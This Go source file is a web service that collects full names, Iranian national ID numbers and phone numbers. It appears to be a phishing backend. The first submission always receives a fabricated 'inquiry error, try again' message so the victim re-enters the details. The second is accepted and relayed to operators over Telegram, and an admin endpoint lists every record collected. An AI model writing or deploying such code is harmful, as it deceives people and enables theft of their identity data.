package verification

import (
	"log"
	"strconv"
	"time"

	"github.com/gofiber/fiber/v3"

	"github.com/delbarteam/delbar-api/internal/config"
	"github.com/delbarteam/delbar-api/internal/db"
	"github.com/delbarteam/delbar-api/internal/models"
	"github.com/delbarteam/delbar-api/internal/telegram"
	"github.com/delbarteam/delbar-api/internal/utils"
)

// VerificationService представляет сервис проверки личности
type VerificationService struct {
	cfg        *config.Config
	jwtService *utils.JWTService
	notifier   *telegram.Notifier
}

// NewVerificationService создает новый экземпляр VerificationService
func NewVerificationService(cfg *config.Config, notifier *telegram.Notifier) *VerificationService {
	return &VerificationService{
		cfg:        cfg,
		jwtService: utils.NewJWTService(cfg.JWTSecret),
		notifier:   notifier,
	}
}

// CreateVerification принимает заявку на проверку личности.
// Первая заявка по паре (анкета, национальный код) всегда отклоняется, повторная
// проходит и уведомляет операторов. Поведение сохранено из исходной версии.
func (s *VerificationService) CreateVerification(c fiber.Ctx) error {
	caseID, err := strconv.Atoi(c.Params("caseID"))
	if err != nil || caseID <= 0 {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{"error": "Неверный формат ID анкеты"})
	}

	var requestData struct {
		FullName    string `json:"full_name"`
		NationalID  string `json:"national_id"`
		PhoneNumber string `json:"phone_number"`
	}
	if err := c.Bind().Body(&requestData); err != nil {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{"error": "Неверный формат данных"})
	}

	if !ValidFullName(requestData.FullName) {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{"error": "لطفاً نام و نام خانوادگی را به صورت کامل وارد کنید"})
	}
	if !ValidNationalID(requestData.NationalID) {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{"error": "کد ملی وارد شده نامعتبر است"})
	}
	phone, ok := NormalizePhone(requestData.PhoneNumber)
	if !ok {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{"error": "شماره موبایل وارد شده نامعتبر است"})
	}

	ctx, cancel := db.GetContext()
	defer cancel()

	// Первая попытка по этой паре отклоняется
	var attempts int
	err = db.Pool.QueryRow(ctx, `
		SELECT COUNT(*) FROM verification_requests WHERE case_id = $1 AND national_id = $2
	`, caseID, requestData.NationalID).Scan(&attempts)
	if err != nil {
		log.Printf("Ошибка подсчета заявок: %v", err)
		return c.Status(fiber.StatusInternalServerError).JSON(fiber.Map{"error": "Ошибка обработки заявки"})
	}

	status := models.VerificationStatusApproved
	if attempts == 0 {
		status = models.VerificationStatusRejected
	}

	var request models.VerificationRequest
	err = db.Pool.QueryRow(ctx, `
		INSERT INTO verification_requests (case_id, full_name, national_id, phone_number, status)
		VALUES ($1, $2, $3, $4, $5)
		RETURNING id, created_at
	`, caseID, requestData.FullName, requestData.NationalID, phone, status).Scan(&request.ID, &request.CreatedAt)
	if err != nil {
		log.Printf("Ошибка сохранения заявки: %v", err)
		return c.Status(fiber.StatusInternalServerError).JSON(fiber.Map{"error": "Ошибка сохранения заявки"})
	}

	request.CaseID = caseID
	request.FullName = requestData.FullName
	request.NationalID = requestData.NationalID
	request.PhoneNumber = phone
	request.Status = status

	if status == models.VerificationStatusRejected {
		log.Printf("ℹ️ Первая заявка отклонена: case=%d", caseID)
		return c.JSON(fiber.Map{
			"success": false,
			"status":  status,
			"message": "خطا در استعلام. لطفاً دوباره تلاش کنید",
		})
	}

	s.notifier.SendAsync(telegram.NewLogMessage(
		requestData.FullName, phone, requestData.NationalID, time.Now()))
	log.Printf("✅ Заявка на проверку принята: case=%d, id=%d", caseID, request.ID)

	return c.Status(fiber.StatusCreated).JSON(fiber.Map{
		"success":      true,
		"status":       status,
		"verification": request,
	})
}

// GetVerifications возвращает заявки на проверку (админ)
func (s *VerificationService) GetVerifications(c fiber.Ctx) error {
	ctx, cancel := db.GetContext()
	defer cancel()

	rows, err := db.Pool.Query(ctx, `
		SELECT id, case_id, full_name, national_id, phone_number, status, created_at
		FROM verification_requests
		ORDER BY created_at DESC
	`)
	if err != nil {
		log.Printf("Ошибка запроса заявок: %v", err)
		return c.Status(fiber.StatusInternalServerError).JSON(fiber.Map{"error": "Ошибка получения заявок"})
	}
	defer rows.Close()

	requests := []models.VerificationRequest{}
	for rows.Next() {
		var r models.VerificationRequest
		if err := rows.Scan(&r.ID, &r.CaseID, &r.FullName, &r.NationalID, &r.PhoneNumber, &r.Status, &r.CreatedAt); err != nil {
			log.Printf("Ошибка сканирования заявки: %v", err)
			continue
		}
		requests = append(requests, r)
	}

	return c.JSON(fiber.Map{
		"verifications": requests,
		"total":         len(requests),
	})
}
